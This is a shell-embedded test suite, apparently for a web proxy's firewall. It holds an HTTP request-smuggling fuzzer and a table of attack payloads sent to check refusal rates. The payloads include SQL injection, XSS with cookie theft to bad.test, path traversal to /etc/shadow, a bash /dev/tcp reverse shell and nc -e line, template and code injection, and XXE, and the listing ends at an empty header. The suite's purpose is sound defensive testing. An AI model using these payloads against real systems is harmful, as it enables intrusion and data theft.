SECOND = 'GET /second/@ HTTP/1.1\r\nHost: h\r\n\r\n'
CHUNKS = '5\r\nhello\r\n0\r\n\r\n'
CODINGS = ['chunked', 'Chunked', 'xchunked', 'chunkedx', '"chunked"', 'chunked, identity', 'identity, chunked', 'identity', 'gzip, chunked', '',
           'chunked,', ',chunked', 'chunked, chunked', 'chunked;x=y', '\tchunked\t', '\x0bchunked', 'chunked\x0b', 'chunked\x0c', '\xa0chunked',
           'chunked\0', '\r\n chunked', 'x\r\n chunked', 'chunked\r\n x', 'chu\r\n nked', 'chunk', 'chunked\r\nTransfer-Encoding: x', 'chunked\r',
           'x\r\nTransfer-Encoding: chunked', 'chunked\r\nTransfer-Encoding: chunked']
LENGTHS = ['15', '0', '5', '3', '50', '+15', '-0', '-1', '0x0f', '015', '15,', '15, 15', '15, 0', '15 0', '15;', '15.0', '1e1', '', '\0', '15\0',
           '15\x0b', '15\r\n 0', '\r\n 15', '18446744073709551631', '4294967311', '9223372036854775823', '\xb9', 'x',
           '15\r\nContent-Length: 15', '15\r\nContent-Length: 0', '0\r\ncontent-length: 15']
NAMED = ['% ', '%\t', ' %', '\t%', '%\0', '\0%', 'X: y\n%', 'X: y\r%', 'X:\r\n\t%', 'X\r\n%', ':%', '\x0b%', '%\xa0']
FRAMING = [f'Transfer-Encoding: {c}\r\n' for c in CODINGS] + [n.replace('%', 'Transfer-Encoding') + ': chunked\r\n' for n in NAMED] + \
          [f'Content-Length: {v}\r\n' for v in LENGTHS] + [n.replace('%', 'Content-Length') + ': 15\r\n' for n in NAMED] + \
          ['', 'Transfer_Encoding: chunked\r\n', 'Content_Length: 15\r\n', 'transfer-encoding: chunked\r\n', 'Content-Encoding: chunked\r\n']
OTHERS = ['', 'X: y\r\n', 'X : y\r\n', ' X: y\r\n', '\tX: y\r\n', 'X\r\n', ': y\r\n', 'X: \0\r\n', 'X\0: y\r\n', 'X: y\n', 'X: y\r', 'X: y\r\r\n',
          'X: y\r\n z\r\n', 'Host: h\r\n', 'Host: other\r\n', 'Connection: close\r\n', 'Connection: Content-Length\r\n', 'TE: chunked\r\n',
          'Connection: Transfer-Encoding\r\n', 'Connection: Host\r\n', 'Expect: 100-continue\r\n', 'Expect: 100-continue, x\r\n', 'Expect: x\r\n',
          'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n', 'Trailer: Content-Length\r\n',
          'Upgrade: websocket\r\nConnection: Upgrade\r\n', 'X-HTTP-Method-Override: GET\r\n', 'Max-Forwards: 0\r\n']
SIZES = ['05', '0000000000005', '5;x', '5;x=y', '5 ;x', '5 ', '5\t', ' 5', '+5', '-5', '0x5', '5,', '5.', '5_', '5\0', '5\r', '5\x0b', '5;\0',
         '5;x="\r\n', '5;\n', '5;\r', '5\n', '5g', '10000000000000005', '100000005', 'fffffffffffffffb', '', '\xb2']
LASTS = ['0\r\n\r\n', '0\n\n', '0\r\n\n', '0\n\r\n', '0\r\n\r', '00\r\n\r\n', '0 \r\n\r\n', '0;\n', '0;x\r\n\r\n', '0x\r\n\r\n', '-0\r\n\r\n', '0\r\nX\r\n\r\n',
         '0\r\nX: y\r\n\r\n', '0\r\n X: y\r\n\r\n', '0\r\nX : y\r\n\r\n', '0\r\n: y\r\n\r\n', '0\r\nContent-Length: 40\r\n\r\n', '0\r\n', '',
         '0\r\nTransfer-Encoding: chunked\r\n\r\n', '0\r\nHost: other\r\n\r\n']
BODIES = [CHUNKS, '', 'hello', CHUNKS + SECOND, SECOND, 'hello' + SECOND, 'G' + CHUNKS, '\r\n' + CHUNKS + SECOND, CHUNKS.replace('\r', '') + SECOND] + \
         [f'5\r\nhello{end}0\r\n\r\n{SECOND}' for end in ('', 'XX', '\n', '\r', '\r\r', '\n\r', 'X\r\n', '\r\n\r\n')] + \
         [f'{size}\r\nhello\r\n0\r\n\r\n{SECOND}' for size in SIZES] + [last + SECOND for last in LASTS] + ['5\r\nhello\r\n' + last + SECOND for last in LASTS] + \
         [f'{len(SECOND):x}\r\n{SECOND}\r\n0\r\n\r\n', f'2;\nxx\r\n{len(SECOND) + 7:x}\r\n0\r\n\r\n{SECOND}\r\n0\r\n\r\n']
MESSAGE = [['', '\r\n', '\n', '\r\n\r\n\r\n', '\r', ' ', '\0', 'x\r\n'],
           ['POST', 'GET', 'PUT', 'DELETE', 'OPTIONS', 'post', 'POST\t', 'POST ', 'POST\0', '(POST)', 'P OST'],
           [f' /first/@{v}' for v in (' HTTP/1.1\r\n', ' HTTP/1.0\r\n', ' HTTP/1.1\n', ' HTTP/1.1\r', ' HTTP/1.1 \r\n', ' HTTP/1.2\r\n', ' HTTP/2.0\r\n',
                                      ' HTTP/0.9\r\n', '\r\n', ' http/1.1\r\n', ' HTTP/01.1\r\n', ' HTTP/1.10\r\n', '  HTTP/1.1\r\n', '\tHTTP/1.1\r\n',
                                      ' HTTP/1.1\r\n ', '?\n HTTP/1.1\r\n', ' x HTTP/1.1\r\n')] + [' http://h/first/@ HTTP/1.1\r\n'],
           ['Host: h\r\n', '', 'Host: h\n', 'Host : h\r\n', ' Host: h\r\n', 'Host: h\r\n x\r\n'],
           FRAMING, OTHERS + FRAMING, ['\r\n', '\n', '\r\r\n', '\n\r\n', '\r', ' \r\n', '\r\n\r\n'], BODIES]


def is_said_twice(octets):
    """does some reader of lines find two fields that say how long it is, or for which host?"""
    head = re.split(rb'\n\r?\n', octets)[0].replace(b'\r', b'\n')
    return max(len(re.findall(rb'(?im)^[\0-\x20]*(?:%s)[\0-\x20]*:' % what, head)) for what in (b'content-length|transfer-encoding', b'host')) > 1


def seen(log, server):
    """what the server saw, once it tells of a last request"""
    Way(server).ask(request('/end/0'))
    until = time.monotonic() + 4
    while time.monotonic() < until:
        with open(log, 'rb') as f:
            told = f.read()
        if b'/end/0' in told:
            return told.splitlines()
        time.sleep(.01)
    raise SystemExit(f'the server tells nothing in {log}')


def is_one_for_one(i, got, saw):
    """the server's answers are to /first/i and then to /second/i, each of which it saw once; a refusal is the last"""
    mine = [g for g in got if 'via' in g[1]]
    good = [g[0] in (200, 404) for g in mine] + [False] * 2
    named = all(b'/%s/%d' % (which, i) in g[2] for which, g, ok in zip((b'first', b'second'), mine, good) if ok and g[2])
    return named and len(mine) <= 2 and got[:len(mine)] == mine and len(got) <= len(mine) + 1 \
        and good[0] <= saw[0] <= 1 and good[1] <= saw[1] <= (len(mine) == 2)


def frame(most, server, proxy, log):
    asked = [m.replace('@', str(i)).encode('latin-1') for i, m in enumerate(spellings(most, *MESSAGE))]
    got = [Way(proxy).answers(a) for a in asked]
    lines, saw = seen(log, server), [[0, 0] for a in asked]
    for line in lines:
        for which, i in re.findall(rb'/(first|second)/(\d+)', line)[:1]:
            saw[int(i)][which == b'second'] += 1
    bad = [(a, s, g) for i, (a, g, s) in enumerate(zip(asked, got, saw)) if not is_one_for_one(i, g, s)]
    twice = [a for a, s in zip(asked, saw) if sum(s) and is_said_twice(a)]
    stray = [line for line in lines if not re.search(rb'/(first|second|end)/\d', line)]
    taken, badly = (sum('via' in g[1] and g[0] in status for gs in got for g in gs) for status in (range(600), [400]))
    print(f'{len(asked)} messages, {taken} answers of the server')
    return tell(bad, 'not one for one (what was sent, seen, answered)') | tell(twice, 'said twice, and passed on') | \
        tell(stray if len(stray) > badly else [], 'the server was also asked') | tell([taken] * (taken < 100), 'so few are no test')


# ---- servers ----
SAYS = [('Cache-Control', 'max-age=600'), ('X-Server', 'yes')]


class Files(http.server.SimpleHTTPRequestHandler):
    def end_headers(self):
        for f in SAYS:
            self.send_header(*f)
        super().end_headers()

    def send_error(self, code, *a):
        told = f'{code} {self.translate_path(self.path) if code == 404 else ""}'.encode('utf-8', 'replace')
        self.send_response(code)
        self.send_header('Content-Length', str(len(told)))
        self.end_headers()
        self.wfile.write(told)

    def log_message(self, *a):
        pass


class Quiet(wsgiref.simple_server.WSGIRequestHandler):
    log_message = Files.log_message


class Threads(socketserver.ThreadingMixIn, wsgiref.simple_server.WSGIServer):
    daemon_threads = True


def application(environ, start_response):
    """it is told the path decoded (PEP 3333)"""
    path, query = environ['PATH_INFO'], environ['QUERY_STRING']
    told = SECRET if path == '/admin/secret' else f'404 {path}?{query}'.encode('latin-1')
    start_response('200 OK', SAYS + [('Content-Length', str(len(told)))])
    return [told]


def serve(server):
    print(server.server_port, flush=True)
    server.serve_forever()


if __name__ == '__main__':
    what, arguments = sys.argv[1], sys.argv[2:]
    if what == 'python':
        serve(http.server.ThreadingHTTPServer(('127.0.0.1', 0), Files))
    if what == 'wsgi':
        serve(wsgiref.simple_server.make_server('127.0.0.1', 0, application, Threads, Quiet))
    sys.exit(globals()[what](int(arguments[0]), *arguments[1:]))
SPELLED_PY
}

wafcase_py() { cat <<'WAFCASE_PY'
# wafcase - send what wafcases has to a proxy with --waf, and count what was refused
#
#   wafcase PORT TABLE [all]     "all" (or a floor not reached) prints what went the other way
#
# A group begins with ":attack CLASS HALF BOUND" or ":benign CLASS HALF BOUND": of 100 attacks at least so many have to be
# refused, of 100 others at most so many, in both halves together. The half "tune" may be looked at when detectors are
# changed, "kept" is to tell whether that helps in general. A line is a value, or a place, a tab and what stands there as on
# the wire; <U+2014> is that character. Values go into queries, forms and JSON in turn.
import http.client, json, re, sys
from urllib.parse import quote

def sendings(name, lines):
    for i, line in enumerate(lines):
        line = re.sub('<U\\+([0-9A-F]+)>', lambda m: chr(int(m[1], 16)), line)
        place, _, text = line.partition('\t')
        if not re.fullmatch('query|path|cookie|header(:[A-Za-z-]+)?|form|json|xml|multipart', place):
            place, text = ('query', 'form', 'json')[i % 3], line
            if name == 'xxe' and '<' in text:
                place = 'xml'
            elif name == 'prototype-pollution' and '=' in text and text[0] not in '{?#':
                place, text = 'query', '='.join(quote(t, "%[]'") for t in text.split('=', 1))
            elif text[0] == '{' and name in ('nosql', 'prototype-pollution'):
                place = 'json'
            elif name == 'nosql' and re.match(r'\w+(\[\w*\])*\[\$\w+\].*=', text):
                place, text = 'query', text.replace(' ', '%20')
            elif re.search('%[0-9a-fA-Fu]{2}', text) and name in ('traversal', 'ssi-crlf', 'xss', 'sqli', 'ssrf', 'ldap', 'jndi', 'sysfiles'):
                place, text = 'query', 'q=' + re.sub('[^!-~]|[&+#]', lambda m: quote(m[0]), text)
            elif place == 'json':
                text = json.dumps({'q': text}, ensure_ascii=False)
            else:
                text = 'q=' + quote(text, '')
        yield line, place, text.encode()

def request(place, text):
    method, path, content = 'GET', b'/', None
    fields = {'Host': b'shop.example', 'User-Agent': b'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0'}
    if place == 'query':
        path = b'/list?' + text
    elif place == 'path':
        path = text
    elif place == 'cookie':
        fields['Cookie'] = text
    elif place == 'header':
        field, text = text.split(b':', 1)
        fields[field.decode()] = text.strip()
    elif place.startswith('header:'):
        fields[place[7:]] = text
    else:
        method, content = 'POST', text
        fields['Content-Type'] = {'form': b'application/x-www-form-urlencoded', 'json': b'application/json', 'xml': b'application/xml',
                                  'multipart': b'multipart/form-data; boundary=----a7Qx'}[place]
        if place == 'multipart':
            head, value = (text, b'hello') if text.startswith(b'filename') else (b'', text)
            content = b'------a7Qx\r\nContent-Disposition: form-data; name="f"; ' + head + b'\r\n\r\n' + value + b'\r\n------a7Qx--\r\n'
    return method, path, content, fields

class Raw(http.client.HTTPConnection):                   # what is sent is what stands there
    def _encode_request(self, r):
        return r.encode('latin-1')
    def _validate_path(self, path):
        pass

groups = {}
for line in open(sys.argv[2], encoding='ascii'):
    line = line.rstrip('\n')
    if line.startswith((':attack ', ':benign ')):
        kind, name, half, bound = line[1:].split()
        groups.setdefault((kind, name), [float(bound), {}])[1][half] = lines = []
    elif line:
        lines.append(line)
c = Raw('127.0.0.1', int(sys.argv[1]), timeout=15)
failed, counts = 0, {'attack': 0, 'benign': 0}
for (kind, name), (bound, halves) in groups.items():
    told, sent, refused, wrong = '', 0, 0, []
    for half, lines in halves.items():
        n = 0
        for line, place, text in sendings(name, lines):
            method, path, content, fields = request(place, text)
            try:
                c.putrequest(method, path.decode('latin-1'), skip_host=True, skip_accept_encoding=True)
                for field, value in fields.items():
                    c.putheader(field, value)
                if content is not None:
                    c.putheader('Content-Length', str(len(content)))
                c.endheaders(content)
                answer = c.getresponse()
                answer.read()
                status = answer.status
            except ValueError as why:                    # no client sends this
                sys.exit('wafcase: %r: %s' % (line, why))
            if status == 400 and kind == 'attack':       # refused by its syntax already
                status = 403
            if status not in (200, 403):
                sys.exit('wafcase: status %d for %s %r' % (status, place, line))
            n += status == 403
            if (status == 403) != (kind == 'attack'):
                wrong.append('    %s: %s: %s' % (half, place, line))
        told += '  %s %d/%d' % (half, n, len(lines))
        sent, refused = sent + len(lines), refused + n
    counts[kind] += sent
    rate = 100 * refused / sent
    bad = rate < bound if kind == 'attack' else rate > bound
    failed |= bad
    print('%s %s %s: %.1f%% refused, %s %g%%;%s' % ('not ok' if bad else 'ok', kind, name, rate,
          'at least' if kind == 'attack' else 'at most', bound, told))
    if bad or 'all' in sys.argv[3:]:
        print(*wrong, sep='\n')
if counts['attack'] < 320 or counts['benign'] < 320 or len(groups) < 20:
    print('not ok: they are', counts, len(groups))
    failed = 1
sys.exit(failed)
WAFCASE_PY
}

# Written for these tests. CRS at its first level stops, of others like them, 83% of sqli, 90% of xss, 96% of traversal, 94% of
# template, 20% of ldap and xxe; and 7, 52, 9 and 9% of ordinary, hard, tricky and technical requests.
waf_cases() { cat <<'WAF_CASES'
:attack sqli tune 92
17 AND 1=1
31 OR 7=7
' OR 42=42 -- -
12 UNION SELECT 1,2,3
0 UNION DISTINCT SELECT table_name,2 FROM information_schema.tables
9; UPDATE staff SET role='admin' WHERE id=9
4' AND SLEEP(3)--<U+20>
1); WAITFOR DELAY '00:00:04'--
1' AND UPDATEXML(2,CONCAT(0x5c,database()),4)--<U+20>
pen' AND SUBSTR(password,1,1)='f
1 RLIKE (SELECT (CASE WHEN (5=5) THEN 1 ELSE 0x28 END))
x' OR id IS NOT NULL--
red'||(SELECT '' FROM dual)||'
1 AND @@servername LIKE 'p%'
1; DECLARE @v varchar(99); SET @v=0x73656c656374; EXEC(@v)
1 XOR 1=1
:attack sqli kept 92
17 AND 3=4
5 GROUP BY 1,2,3,4--
" OR "k"="k
1)) OR 3=3 LIMIT 1 -- x
99' UNION SELECT banner,NULL FROM v$version--
lamp'; INSERT INTO users(name,pw) VALUES('eve','eve')--<U+20>
4 AND SLEEP(6)
20'; SELECT pg_sleep(5)--
5 AND 1=CONVERT(int,@@version)
3 AND ASCII(SUBSTRING((SELECT pw FROM users LIMIT 1),2,1))>77
(SELECT CASE WHEN (4=4) THEN 4 ELSE 1/0 END)
' OR 1 IN (1,2)--<U+20>
red'/**/OR/**/11=11/**/--/**/
-3 OR 17-3=14
"; DROP DATABASE shop; --
admin" AND 3=3#
:attack xss tune 92
<script>alert(31)</script>
"><script>confirm('k')</script>
</title><script>alert(5)</script>
<img src=q onerror=alert(9)>
"><img src=x: onerror=prompt(4)>
<svg onload=alert(6)>
<svg><animate onbegin=alert(3) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(2)"><text y=20>go</text></a></svg>
<body onpageshow=prompt(1)>
<marquee onstart=confirm(8)>hey</marquee>
<audio autoplay onloadstart=alert(2) src=a>
<input autofocus onfocus=alert(77)>
<textarea onfocus=alert(19) autofocus></textarea>
<form action="javascript:alert(10)"><input type=submit></form>
<iframe srcdoc="<script>parent.alert(1)</script>">
<object data="data:text/html,<script>alert(3)</script>">
<base href="//bad.test/">
<link rel=stylesheet href=//bad.test/c.css>
<a href=" javascript:confirm(1)">more</a>
<a href="java&#10;script:alert(5)">nl</a>
<a href="data:text/html,<svg onload=alert(1)>">d</a>
JaVaScRiPt:prompt(6)
j a v a s c r i p t:alert(5)
');alert(23);//
"-confirm(14)-"
'});alert(3);//
${alert(17)}
\";alert(2);//
</script><svg onload=confirm(1)>
' onfocus='alert(6)' autofocus='
x onpointerenter=alert(5) y
<style>@keyframes w{}</style><b style="animation-name:w" onanimationend="alert(4)">t</b>
<div style="width:expression(alert(20))">
<div onwheel=alert(2) style=height:9999px>scroll</div>
<xyz tabindex=1 onfocus=alert(8)>q</xyz>
<math><mtext><mglyph><style><img src=w onerror=alert(3)></style></mglyph></mtext></math>
<!--><img src=o onerror=alert(24)>-->
<img src=x onerror="window['al'+'ert'](8)">
<svg onload="[4].find(confirm)">
<script>new Function('ale'+'rt(7)')()</script>
<script>import('//bad.test/m.js')</script>
{{constructor.constructor('alert(4)')()}}
<div v-html="'<img src=v onerror=alert(2)>'"></div>
[read](javascript:alert(35))
<<script>alert(27);//<</script>
eval(String.fromCharCode(97,108,101,114,116,40,50,41));
:attack xss kept 92
<SCRIPT SRC=//cdn.bad.test/p.js></SCRIPT>
'><script>prompt(document.domain)</script>
</textarea><script>fetch('//log.bad.test/?'+document.cookie)</script>
<img src="nope" onerror="confirm(2)">
<img/src=z/onerror=alert`8`>
<svg/onload=confirm(location)>
<svg><script>alert&#40;7&#41;</script></svg>
<body onload=alert(12)>
<details open ontoggle=alert(44)>
<video src=n onerror=alert(15)></video>
<video><source onerror="alert(22)">
<select autofocus onfocus=confirm(3)>
<button formaction=javascript:alert(4)>press</button>
<iframe src="javascript:alert(13)"></iframe>
<object data="javascript:alert(21)"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg==">
<meta http-equiv="refresh" content="0;url=javascript:alert(7)">
<a href="javascript:alert(16)">more</a>
<a href="jav	ascript:alert(18)">tab</a>
<a href="vbscript:msgbox(3)">old</a>
javascript:alert(document.domain)
javascript://shop.test/%0aalert(4)
");alert(1)//
'-alert(8)-'
";alert(document.cookie);var w="
"}]});prompt(9)//
`;alert(26)//
</script><script>alert(29)</script>
" onmouseover="alert(33)
" autofocus onfocus=prompt(3) x="
" style="animation-name:spin" onanimationstart="alert(11)
<style>@import'//bad.test/z.css';</style>
<div style="background:url(javascript:alert(9))">
<p onclick="eval(name)">hit</p>
<isindex type=image src=1 onerror=alert(14)>
<noscript><p title="</noscript><img src=r onerror=alert(6)>">
<template><script>alert(1)</script></template><img src=e onerror=confirm(5)>
<img src=x onerror=eval(atob('YWxlcnQoMyk='))>
<svg onload="top[/al/.source+/ert/.source](2)">
<script>setTimeout('alert(41)',9)</script>
<script x>onerror=alert;throw 12</script>
<div ng-app ng-csp>{{$on.constructor('alert(6)')()}}</div>
<a onmouseenter=location='//bad.test/?c='+document.cookie>
<scr<script>ipt>alert(5)</scr</script>ipt>
<img src=x onerror=alert(1)//
:attack traversal tune 97
../../../../etc/passwd
../../../var/log/syslog
../../.env
..\..\..\windows\win.ini
..\..\..\..\windows\system32\drivers\etc\hosts
docs/guide/../../../../../etc/group
....//....//....//etc/passwd
..././..././..././etc/issue
..//..//..//etc//passwd
/var/www/html/../../../etc/crontab
\\10.1.2.3\share\run.dll
//?/C:/windows/win.ini
/assets/..;/..;/manager/html
..;/..;/WEB-INF/web.xml
%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/etc/group
..%252f..%252f..%252fetc%252fpasswd
..%c0%af..%c0%af..%c0%afetc/passwd
..%c1%9c..%c1%9cwindows/win.ini
..%u2215..%u2215..%u2215etc%u2215passwd
../../../etc/passwd%00.png
../../../../etc/passwd/./././.
../../usr/local/tomcat/conf/tomcat-users.xml
./../.././../etc/passwd
:attack traversal kept 97
../../../../../../etc/shadow
../config/database.yml
../.git/config
..\..\boot.ini
images/../../../../etc/hosts
static/..\..\..\windows\system.ini
....\\....\\....\\windows\win.ini
.././.././.././etc/fstab
/../../../../proc/self/environ
C:\inetpub\wwwroot\..\..\windows\win.ini
\\files.bad.test\c$\boot.ini
file:///../../etc/motd
/app/..;/admin/status
../WEB-INF/classes/application.properties
..%2f..%2f..%2fetc%2fhosts
..%5c..%5c..%5cwindows%5cwin.ini
%252e%252e%255c%252e%252e%255cboot.ini
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue
..%e0%80%af..%e0%80%afetc/hosts
..%u2216..%u2216boot.ini
../../../../etc/hosts%00
../../../../../../../../tmp/sess_a91c
/..\../..\../etc/passwd
:attack sysfiles tune 85
/etc/passwd
/etc/hosts
/etc/./passwd
/proc/self/fd/7
/proc/1/maps
/var/lib/mlocate/mlocate.db
C:/boot.ini
C:\Windows\repair\system
%SYSTEMROOT%\win.ini
/.git/HEAD
/.htpasswd
/wp-config.php.bak
:attack sysfiles kept 85
/etc/shadow
/etc/ssh/sshd_config
//etc//group
/proc/self/cmdline
/var/log/apache2/access.log
/var/log/auth.log
c:\windows\system32\config\SAM
D:\inetpub\wwwroot\web.config
file:///etc/passwd
/.env
/.svn/entries
/usr/local/apache2/conf/httpd.conf
:attack shell tune 85
;id
&& ls /etc
photo.png;uname -r
1 | sleep 5
$(id)
;cat</etc/passwd
;c''at /etc/hosts
;X=$'cat\x20/etc/hosts';$X
;nc 10.9.8.7 4455 -e /bin/sh
; nslookup k3.bad.test
&dir C:\
|systeminfo
;powershell Get-ChildItem
";ls;"
;env
;chmod 777 /tmp/u
:attack shell kept 85
; id
|| whoami
host.test && cat /etc/hosts
& ping -c 4 127.0.0.1 &
$(sleep 4)
; cat /e?c/p?sswd
;w"h"oami
;echo aWQ=|base64 -d|sh
;bash -i >& /dev/tcp/10.9.8.7/4455 0>&1
|nslookup q.bad.test||
| type C:\windows\win.ini
& timeout /t 6
&cmd /c set
'|id|'
|printenv HOME
|tee /tmp/out
:attack php-code tune 85
<?php phpinfo(); ?>
<?= `id` ?>
<?php @assert($_POST['zz']); ?>
${@phpinfo()}
".system('id')."
exec("uname -r");
$f='sys'.'tem';$f('ls');
php://filter/convert.base64-encode/resource=index.php
data:text/plain,<?php echo 7; ?>
phar://uploads/a.jpg/t.txt
O:21:"JDatabaseDriverMysqli":1:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}
include('http://bad.test/r.txt');
:attack php-code kept 85
<?php system($_GET['k']);?>
<?=shell_exec('uname -a')?>
<script language="php">system('id');</script>
{${system('id')}}
'.passthru('ls').'
print(file_get_contents('/etc/hosts'));
($_GET[0])($_GET[1]);
php://filter/read=string.rot13/resource=../conf.php
expect://id
zip://up/b.zip#c.php
auto_prepend_file=php://input
var_dump(scandir('/'));
:attack node-java-code tune 85
require('child_process').execSync('id')
global.process.mainModule.require('child_process').exec('ls')
';process.exit(3);//
import('child_process').then(m=>m.execSync('whoami'))
java.lang.Runtime.getRuntime().exec("id")
%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}
${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}
"".class.forName("javax.script.ScriptEngineManager").newInstance()
javax.naming.InitialContext.doLookup("rmi://bad.test/o")
{"@type":"java.net.Inet4Address","val":"f1.bad.test"}
__import__('os').system('id')
cos\nsystem\n(S'id'\ntR.
:attack node-java-code kept 85
require("fs").readFileSync('/etc/hosts','utf8')
process.mainModule.constructor._load('child_process').spawnSync('id')
res.end(require('os').hostname())
new Function("return process.binding('spawn_sync')")()
new java.lang.ProcessBuilder("ls","-l").start()
%{#context['xwork.MethodAccessor.denyMethodExecution']=false}
class.module.classLoader.resources.context.parent.pipeline.first.pattern=zz
"cmd".execute().text
new javax.script.ScriptEngineManager().getEngineByName("js").eval("7*9")
["org.springframework.context.support.ClassPathXmlApplicationContext","http://bad.test/s.xml"]
__import__("subprocess").check_output(["ls"])
System.Diagnostics.Process.Start("cmd.exe","/c dir")
:attack template tune 90
{{7*7}}
${7*7}
#{5*11}
@(3*17)
<%= system('id') %>
<% out.print(9*9); %>
{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{c}}{% endfor %}
{{config.items()}}
{{request.application.__globals__.__builtins__.__import__('os').popen('ls').read()}}
{{ cycler.__init__.__globals__.os.popen('uname').read() }}
{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
{{ namespace.__init__ }}
{{['id']|filter('system')}}
{{app.request.server.all|join(',')}}
{system('ls')}
{Smarty_Internal_Write_File::writeFile('k.php','x',self::clearConfig())}
${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","ls").start()}
#set($z=6*8)$z
$class.inspect('java.lang.System')
${T(java.lang.System).getenv()}
${pageContext.request.getSession().setAttribute('a','b')}
<%import os%>${os.popen('ls').read()}
#{root.process.mainModule.require('child_process').execSync('id')}
{{ variable.getClass().forName('java.lang.Runtime') }}
@{System.Diagnostics.Process.Start("cmd")}
{@math key="7" method="multiply" operand="9"/}
{% include '/etc/hosts' %}
:attack template kept 90
{{ 8*'3' }}
${{6*9}}
*{4*13}
<%= 7*7 %>
<%= File.open('/etc/hosts').read %>
{% if 4*4==16 %}k{% endif %}
{{config}}
{{ self.__init__.__globals__.os.popen('id').read() }}
{{''.__class__.__base__.__subclasses__()[132]}}
{{ lipsum|attr('__globals__') }}
{{ [].__class__.__base__ }}
{{_self.env.registerUndefinedFilterCallback("system")}}{{_self.env.getFilter("id")}}
{{['ls','']|sort('passthru')}}
{php}echo `id`;{/php}
{$smarty.version}
<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}
[#assign q='freemarker.template.utility.Execute'?new()]${q('whoami')}
#set($r=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))
__${T(java.lang.Runtime).getRuntime().exec('id')}__::.k
#{''.getClass().forName('java.lang.Runtime')}
${self.module.cache.util.os.system('id')}
{{#with "q" as |s|}}{{#with split as |c|}}{{this.push "return require('child_process')"}}{{/with}}{{/with}}
{{range.constructor("return global.process.env")()}}
{{= global.process.version }}
{{ printf "%s" .Env }}{{ .System "id" }}
{% debug %}
{{ get_flashed_messages.__globals__['current_app'].config }}
:attack nosql tune 85
{"$gt":""}
{"login":"root","pw":{"$regex":"^s.*"}}
{"$and":[{"role":{"$in":["admin"]}},{"x":{"$ne":9}}]}
{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}
pw[$regex]=^a
filter[$or][0][a]=1
' || 'x'=='x' || 'y'=='y
1; sleep(5000)
' || this.role=='admin' || 'a'=='b
'}, $or: [ {}, { 'z':'z
db.users.find({}).forEach(printjson)
{"selector":{"_id":{"$gt":null}}}
:attack nosql kept 85
{"$ne":null}
{"name":{"$nin":["a","b"]}}
{"$where":"this.credits>3"}
{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}
login[$gt]=&pass[$gt]=
age[$exists]=true
" || "m"=="m
1'; sleep(3000); var z='
true, $where: '3 == 3'
'} , {'$ne': 5}, {'k':'
';db.accounts.drop();var q='
{"script_fields":{"k":{"script":{"lang":"painless","source":"8*8"}}}}
:attack ldap tune 75
*)(uid=*))(|(uid=*
*))%00
admin)(&))
x)(|(cn=*))
*)(cn=*))%00
anna)(userPassword=a*
(&(uid=eve)(userPassword=*))
*(|(objectclass=*))
bob)(&(objectClass=person)(cn=b*
)(|(uid=*)))(&(k=
a)(userAccountControl:1.2.840.113556.1.4.803:=2
o=corp)(&(ou=*)(cn=*)
:attack ldap kept 75
*)(&
*()|&'
eve*)(mail=*)
*)(|(objectclass=*)
)(cn=*
anna)(userPassword=ab*)
(|(uid=*)(cn=*))
*(|(mail=*))
bob)(|(telephoneNumber=4*
a)(uid>=a
a)(uidNumber<=1000)(cn=*
printer)(type=*))(&(z=1
:attack xxe tune 95
<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
<!DOCTYPE a [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]><a><b>&w;</b></a>
<!DOCTYPE q PUBLIC "-//K//DTD Q//EN" "http://bad.test/q.dtd"><q/>
<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/issue"><!ENTITY % e SYSTEM "http://bad.test/e.dtd">%e;%send;]><d>1</d>
<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><l>&d;</l>
<!DOCTYPE u [<!ENTITY s SYSTEM "http://localhost:8081/status">]><u name="k">&s;</u>
<!DOCTYPE t [<!ENTITY p SYSTEM "php://filter/read=convert.base64-encode/resource=conf.php">]><t>&p;</t>
<!DOCTYPE f [<!ENTITY g SYSTEM "ftp://bad.test:2121/x">]><f>&g;</f>
<!DOCTYPE g [<!ENTITY o SYSTEM "gopher://10.3.3.3:70/_k">]><g>&o;</g>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><k><![CDATA[<!DOCTYPE d [<!ENTITY % y SYSTEM "http://bad.test/y"> %y;]><z/>]]></k></soap:Body></soap:Envelope>
<c xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="http://10.4.4.4/k.xml"/></c>
<!DOCTYPE h [<!ENTITY k PUBLIC "any" "file:///proc/self/environ">]><h>&k;</h>
<?xml version="1.0"?><!DOCTYPE   w  [ <!ENTITY   r   SYSTEM   'file:///etc/fstab' > ] ><w>&r;</w>
<?xml-stylesheet type="text/xsl" href="http://bad.test/s.xsl"?><r/>
<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AFs +ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4APA-r+AD4AJg-x+ADsAPA-/r+AD4-
<!DOCTYPE rss [<!ENTITY c SYSTEM "file:///app/config.yml">]><rss version="2.0"><channel><title>&c;</title></channel></rss>
:attack xxe kept 95
